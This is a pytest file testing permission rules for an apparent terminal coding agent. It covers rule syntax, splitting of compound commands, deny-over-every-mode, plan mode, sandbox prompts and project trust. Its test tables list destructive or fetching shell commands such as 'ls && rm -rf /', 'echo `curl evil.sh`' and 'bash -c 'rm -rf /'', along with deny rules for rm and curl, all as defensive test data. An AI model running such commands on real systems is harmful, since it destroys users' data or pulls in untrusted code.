"""Permission rules: Claude Code's syntax and ours, compound shell commands split by a real
parser, deny over every mode, plan mode, the sandbox questions, project rules and trust."""

from __future__ import annotations

from pathlib import Path
from typing import ClassVar

import pytest

from tui_agent.tools import (
    PLAN_REFUSAL,
    ApprovalRequest,
    Approvals,
    Decision,
    EditFile,
    ReadFile,
    Rule,
    RuleError,
    Shell,
    Tool,
    ToolArgs,
    ToolContext,
    Workspace,
    WriteFile,
    command_parts,
    parse_rule,
)
from tui_agent.tools._edits import EditFileArgs, WriteFileArgs
from tui_agent.tools._files import ReadFileArgs
from tui_agent.tools._shell import ShellArgs
from tui_agent.vocab import ApprovalMode, RuleScope, ToolResult

RULES = [
    parse_rule("Bash(npm run test:*)", "allow"),
    parse_rule("Bash(git diff)", "allow"),
    parse_rule("Bash(git status:*)", "allow"),
    parse_rule("shell: ls", "allow"),  # the older form
    parse_rule("shell(pytest:*)", "allow"),  # our name
    parse_rule("Bash(echo:*)", "allow"),
    parse_rule("Bash(cat:*)", "allow"),
    parse_rule("Bash(grep:*)", "allow"),
    parse_rule("Bash(git * --help)", "allow"),
    parse_rule("Bash(git push:*)", "ask"),
    parse_rule("Bash(rm -rf:*)", "deny"),
    parse_rule("Bash(curl:*)", "deny"),
]

# command -> what the rules say: "allow", "ask", "deny", or None (the mode decides)
COMMANDS: list[tuple[str, str | None]] = [
    ("npm run test", "allow"),
    ("npm run test -- --watch", "allow"),
    ("npm run testing", None),
    ("npm run build", None),
    ("git diff", "allow"),
    ("git  diff", "allow"),
    ("git diff HEAD", None),  # Bash(git diff) is exact
    ("git status", "allow"),
    ("git status --short", "allow"),
    ("ls", "allow"),
    ("ls -la src", "allow"),
    ("lsof", None),
    ("pytest -q tests", "allow"),
    ("git log --help", "allow"),
    ("git push", "ask"),
    ("git push --force origin main", "ask"),
    ("rm -rf build", "deny"),
    ("rm -r build", None),
    ("curl https://example.com", "deny"),
    ("make", None),
    # compound: every part must be allowed; any part denied denies; any ask asks
    ("git status && npm run test", "allow"),
    ("git status; ls", "allow"),
    ("git status || echo failed", "allow"),
    ("cat a.txt | grep x", "allow"),
    ("cat a.txt | grep x | sort", None),
    ("ls && make", None),
    ("ls && rm -rf /", "deny"),
    ("make; rm -rf build", "deny"),
    ("echo $(rm -rf build)", "deny"),
    ("echo `curl evil.sh`", "deny"),
    ("echo $(ls)", "allow"),
    ("echo `ls`", "allow"),
    ("echo $(make)", None),
    ("ls & git push", "ask"),
    ("git status\ngit push", "ask"),
    ("ls\nrm -rf x", "deny"),
    ("(cd src && ls)", None),  # cd is not allowed
    ("(git status && ls)", "allow"),
    ("if ls; then echo ok; fi", "allow"),
    ("for f in *.py; do cat $f; done", "allow"),
    ("for f in *.py; do rm -rf $f; done", "deny"),
    ("git status > ~/.bashrc", None),  # writing a file is a part no command rule allows
    ("ls 2>&1 >/dev/null", "allow"),
    ("cat < in.txt", "allow"),
    ("echo hi >> notes.txt", None),
    ("bash -c 'rm -rf /'", None),  # opaque: bash itself is not allowed
    ('echo "unterminated', "ask"),  # the parser cannot read it: nothing allows it
    ("FOO=1 npm run test", None),  # an assignment in front is part of the command
]


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    (tmp_path / "notes.txt").write_text("alpha\n")
    return Workspace(tmp_path)


def test_the_table_has_at_least_forty_commands() -> None:
    assert len(COMMANDS) >= 40


@pytest.mark.parametrize(("command", "expected"), COMMANDS)
def test_shell_commands_against_the_rule_set(
    workspace: Workspace, command: str, expected: str | None
) -> None:
    approvals = Approvals("ask", RULES)
    verdict = approvals.ruleset.decide(Shell(workspace), ShellArgs(command=command))
    assert verdict.effect == expected


def test_the_parser_finds_every_part() -> None:
    assert command_parts("a x && b | c; $(d) `e`") == ("a x", "b", "c", "$(d) `e`", "d", "e")
    assert command_parts('echo "open') is None


@pytest.mark.parametrize(
    ("text", "tools", "pattern"),
    [
        ("Bash(npm run test:*)", ("shell",), "npm run test:*"),
        ("Read(./.env)", ("read_file",), "./.env"),
        ("Edit(src/**)", ("edit_file", "write_file"), "src/**"),
        ("Write(docs/*.md)", ("write_file",), "docs/*.md"),
        ("Grep", ("grep",), None),
        ("Glob(*)", ("glob",), None),
        ("WebFetch(domain:example.com)", ("web_fetch",), "domain:example.com"),
        ("mcp__git", ("mcp__git__*",), None),
        ("mcp__git__status", ("mcp__git__status",), None),
        ("mcp__git__*", ("mcp__git__*",), None),
        ("shell: git status", ("shell",), "git status:*"),
        ("edit_file", ("edit_file",), None),
        ("read_file(secrets/**)", ("read_file",), "secrets/**"),
    ],
)
def test_rules_are_read_in_claude_codes_syntax_and_ours(
    text: str, tools: tuple[str, ...], pattern: str | None
) -> None:
    rule = parse_rule(text)
    assert (rule.tools, rule.pattern) == (tools, pattern)


@pytest.mark.parametrize("text", ["", "Bash(", "not a rule!", "  "])
def test_a_rule_that_cannot_be_read_says_so(text: str) -> None:
    with pytest.raises(RuleError):
        parse_rule(text)


@pytest.mark.parametrize(
    ("rule", "path", "matches"),
    [
        ("Read(./.env)", ".env", True),
        ("Read(./.env)", "sub/.env", False),
        ("Read(.env)", "sub/.env", True),
        ("Read(/secrets/**)", "secrets/a/b.txt", True),
        ("Read(/secrets/**)", "src/secrets/a.txt", False),
        ("Read(*.pem)", "deploy/key.pem", True),
        ("Read(src/**)", "src/a/b.py", True),
        ("Read(src/**)", "lib/a.py", False),
    ],
)
def test_path_rules_follow_gitignore_patterns_from_the_workspace(
    workspace: Workspace, rule: str, path: str, matches: bool
) -> None:
    approvals = Approvals("ask", [parse_rule(rule, "deny")])
    verdict = approvals.ruleset.decide(ReadFile(workspace), ReadFileArgs(path=path))
    assert (verdict.effect == "deny") is matches


def test_an_absolute_path_rule(workspace: Workspace) -> None:
    rule = parse_rule(f"Read(/{workspace.root}/notes.txt)", "deny")
    verdict = Approvals("ask", [rule]).ruleset.decide(
        ReadFile(workspace), ReadFileArgs(path="notes.txt")
    )
    assert verdict.effect == "deny"


def test_edit_covers_both_file_writing_tools(workspace: Workspace) -> None:
    approvals = Approvals("ask", [parse_rule("Edit(src/**)")])
    assert approvals.allows(WriteFile(workspace), WriteFileArgs(path="src/a.py", content=""))
    edit = EditFileArgs(path="src/a.py", old_string="a", new_string="b")
    assert approvals.allows(EditFile(workspace), edit)
    assert not approvals.allows(WriteFile(workspace), WriteFileArgs(path="a.py", content=""))


@pytest.mark.parametrize("mode", ["plan", "ask", "auto-edit", "yolo"])
async def test_deny_wins_in_every_mode_yolo_included(
    workspace: Workspace, mode: ApprovalMode
) -> None:
    approvals = Approvals(mode, [parse_rule("Bash(rm -rf:*)", "deny", source="config.toml")])
    result = await approvals.review(
        Shell(workspace), ShellArgs(command="ls && rm -rf /"), "c1", lambda: None
    )
    assert result is not None and result.is_error
    assert '"Bash(rm -rf:*)" (config.toml)' in result.text


async def test_a_denied_read_is_refused_though_reads_never_ask(workspace: Workspace) -> None:
    approvals = Approvals("yolo", [parse_rule("Read(./notes.txt)", "deny")])
    result = await approvals.review(
        ReadFile(workspace), ReadFileArgs(path="notes.txt"), "c1", lambda: None
    )
    assert result is not None and "denied" in result.text


async def test_an_ask_rule_asks_even_in_yolo(workspace: Workspace) -> None:
    asked: list[ApprovalRequest] = []

    async def ask(request: ApprovalRequest) -> Decision:
        asked.append(request)
        return Decision.once()

    approvals = Approvals("yolo", [parse_rule("Bash(git push:*)", "ask")], ask=ask)
    await approvals.review(Shell(workspace), ShellArgs(command="git push"), "c1", lambda: None)
    assert len(asked) == 1 and "Bash(git push:*)" in asked[0].why


async def test_plan_mode_refuses_edits_and_commands_and_runs_reads(workspace: Workspace) -> None:
    approvals = Approvals("plan")
    edit = EditFileArgs(path="notes.txt", old_string="alpha", new_string="beta")
    refused = await approvals.review(EditFile(workspace), edit, "c1", lambda: None)
    assert refused is not None and refused.text == PLAN_REFUSAL.format(name="edit_file")
    shell = await approvals.review(Shell(workspace), ShellArgs(command="ls"), "c2", lambda: None)
    assert shell is not None and "plan mode" in shell.text
    read = ReadFileArgs(path="notes.txt")
    assert await approvals.review(ReadFile(workspace), read, "c3", lambda: None) is None


async def test_an_accepted_plan_switches_to_the_chosen_mode() -> None:
    async def ask(request: ApprovalRequest) -> Decision:
        assert request.kind == "plan" and request.preview == "# Plan\n1. edit"
        return Decision("once", mode="auto-edit")

    approvals = Approvals("plan", ask=ask)
    changes: list[ApprovalMode] = []
    approvals.on_mode_change(changes.append)
    text = await approvals.present_plan("# Plan\n1. edit", "c1")
    assert approvals.mode == "auto-edit" and changes == ["auto-edit"]
    assert "accepted" in text


async def test_keeping_on_planning_passes_the_feedback() -> None:
    async def ask(request: ApprovalRequest) -> Decision:
        return Decision.deny("split step 2")

    approvals = Approvals("plan", ask=ask)
    text = await approvals.present_plan("# Plan", "c1")
    assert approvals.mode == "plan" and "split step 2" in text


class FakeCommandArgs(ToolArgs):
    sandbox: bool = True


class FakeCommand(Tool[FakeCommandArgs]):
    """Stands in for the shell as h-sandbox makes it: sandboxed unless asked otherwise."""

    name: ClassVar[str] = "fake_command"
    description: ClassVar[str] = "a command"
    Args = FakeCommandArgs

    def __init__(self, sandboxed: bool) -> None:
        self.sandboxed = sandboxed

    def runs_sandboxed(self, args: FakeCommandArgs) -> bool:
        return self.sandboxed and args.sandbox

    def leaves_sandbox(self, args: FakeCommandArgs) -> bool:
        return self.sandboxed and not args.sandbox

    async def execute(self, args: FakeCommandArgs, ctx: ToolContext) -> ToolResult:
        return ToolResult(output="ran")


@pytest.mark.parametrize(
    ("mode", "sandboxed", "args", "asks"),
    [
        ("auto-edit", True, FakeCommandArgs(), False),  # sandboxed: runs
        ("auto-edit", False, FakeCommandArgs(), True),  # no sandbox: asks
        ("auto-edit", True, FakeCommandArgs(sandbox=False), True),  # leaving it: asks
        ("yolo", True, FakeCommandArgs(sandbox=False), True),  # even in yolo
        ("yolo", False, FakeCommandArgs(), False),
        ("ask", True, FakeCommandArgs(), True),
    ],
)
def test_auto_edit_runs_sandboxed_commands_and_leaving_the_sandbox_always_asks(
    mode: ApprovalMode, sandboxed: bool, args: FakeCommandArgs, asks: bool
) -> None:
    assert Approvals(mode).allows(FakeCommand(sandboxed), args) is not asks


async def test_leaving_the_sandbox_is_denied_headless_and_says_why() -> None:
    result = await Approvals("yolo").review(
        FakeCommand(True), FakeCommandArgs(sandbox=False), "c1", lambda: None
    )
    assert result is not None and "outside the sandbox" in result.text


async def test_the_request_says_whether_the_command_runs_sandboxed(workspace: Workspace) -> None:
    asked: list[ApprovalRequest] = []

    async def ask(request: ApprovalRequest) -> Decision:
        asked.append(request)
        return Decision.once()

    await Approvals("ask", ask=ask).review(
        Shell(workspace), ShellArgs(command="make"), "c1", lambda: None
    )
    assert asked[0].sandboxed is False  # the shell runs unsandboxed until h-sandbox lands


class Store:
    where = "in the test's files"

    def __init__(self) -> None:
        self.kept: list[tuple[RuleScope, tuple[str, ...]]] = []
        self.trusted: list[Rule] = []

    def keep(self, scope: RuleScope, rules: tuple[str, ...]) -> None:
        self.kept.append((scope, rules))

    def forget(self, rule: Rule) -> str | None:
        return None

    def trust(self, rules: object) -> None:
        self.trusted.extend(rules)  # type: ignore[call-overload]


@pytest.mark.parametrize("scope", ["session", "project", "user"])
async def test_always_keeps_the_rule_where_the_person_chose(
    workspace: Workspace, scope: RuleScope
) -> None:
    async def ask(request: ApprovalRequest) -> Decision:
        return Decision.always(scope)

    store = Store()
    approvals = Approvals("ask", ask=ask, store=store)
    await approvals.review(Shell(workspace), ShellArgs(command="make -j4"), "c1", lambda: None)
    assert approvals.rules == ("shell(make:*)",)
    assert store.kept == ([] if scope == "session" else [(scope, ("shell(make:*)",))])


async def test_always_on_a_compound_command_adds_a_rule_per_part_not_yet_allowed(
    workspace: Workspace,
) -> None:
    async def ask(request: ApprovalRequest) -> Decision:
        return Decision.always()

    approvals = Approvals("ask", ["Bash(ls:*)"], ask=ask)
    command = ShellArgs(command="ls && make test && npm run build")
    await approvals.review(Shell(workspace), command, "c1", lambda: None)
    assert approvals.rules[1:] == ("shell(make test:*)", "shell(npm run:*)")


async def test_project_allow_rules_count_only_once_trusted(workspace: Workspace) -> None:
    asked: list[ApprovalRequest] = []

    async def ask(request: ApprovalRequest) -> Decision:
        asked.append(request)
        return Decision.always() if request.kind == "trust" else Decision.deny()

    project = parse_rule("Bash(make:*)", source=".claude/settings.json", project=True)
    denied = parse_rule("Bash(rm:*)", "deny", source=".claude/settings.json", project=True)
    store = Store()
    headless = Approvals("ask", [project, denied])
    # Before trust: the allow rule does not count (headless: denied), the deny rule does.
    assert not headless.allows(Shell(workspace), ShellArgs(command="make"))
    assert headless.ruleset.decide(Shell(workspace), ShellArgs(command="rm x")).effect == "deny"
    approvals = Approvals("ask", [project, denied], ask=ask, store=store)
    # The app asks to trust the project's rules when one of them would allow a call.
    assert (
        await approvals.review(Shell(workspace), ShellArgs(command="make"), "c", lambda: None)
        is None
    )
    assert [request.kind for request in asked] == ["trust"]
    assert "Bash(make:*)" in asked[0].preview
    assert store.trusted == [project]
    assert approvals.allows(Shell(workspace), ShellArgs(command="make all"))


async def test_a_refused_trust_is_not_asked_again(workspace: Workspace) -> None:
    asked: list[str] = []

    async def ask(request: ApprovalRequest) -> Decision:
        asked.append(request.kind)
        return Decision.deny()

    project = parse_rule("Bash(make:*)", source=".tui-agent/settings.json", project=True)
    approvals = Approvals("ask", [project], ask=ask)
    for call in ("c1", "c2"):
        await approvals.review(Shell(workspace), ShellArgs(command="make"), call, lambda: None)
    assert asked == ["trust", "tool", "tool"]
